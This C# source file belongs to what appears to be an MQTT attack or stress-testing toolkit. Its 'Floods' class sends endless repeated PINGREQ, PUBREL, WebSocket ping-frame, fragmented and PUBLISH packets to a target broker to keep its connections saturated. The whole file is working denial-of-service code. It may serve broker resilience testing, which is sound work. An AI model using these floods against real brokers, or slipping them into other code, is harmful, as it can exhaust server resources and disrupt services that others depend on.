// SPDX-License-Identifier: MIT

using System.Net.Sockets;

namespace RawMqtt.Attacks;

/// <summary>W1: connections that always have bytes.</summary>
internal static class Floods
{
    public static void Pings(Target target) => target.Flood(target.Connect("pings"), Repeated([0xc0, 0]));

    public static void Releases(Target target) => target.Flood(target.Connect("releases"), Repeated([0x62, 2, 0, 1]));

    public static void FramePings(Target target) => target.Flood(target.ConnectWebSocket("frame-pings"), Repeated([0x89, 0x80, 0, 0, 0, 0]));

    /// <summary>A PUBLISH of 200 MB to nobody that never ends, in frames of one byte.</summary>
    public static void Fragments(Target target)
    {
        Socket socket = target.ConnectWebSocket("fragments");
        socket.Send([0x02, 0x81, 0, 0, 0, 0, 0xc0]); // a PINGREQ, and from then on one in each two frames
        socket.Send([0x00, 0x81, 0, 0, 0, 0, 0x00]);
        target.Flood(socket, Repeated([0x00, 0x81, 0, 0, 0, 0, 0xc0, 0x00, 0x81, 0, 0, 0, 0, 0x00]));
    }

    public static void Publishers(Target target)
    {
        for (int i = 0; i < 4; i++) target.Flood(target.Connect($"publisher{i}"), Repeated(Wire.Publish($"nobody{i}", "x", 0, 0, false)));
    }

    private static byte[] Repeated(byte[] bytes) => [.. Enumerable.Repeat(bytes, 65_536 / bytes.Length).SelectMany(one => one)];
}
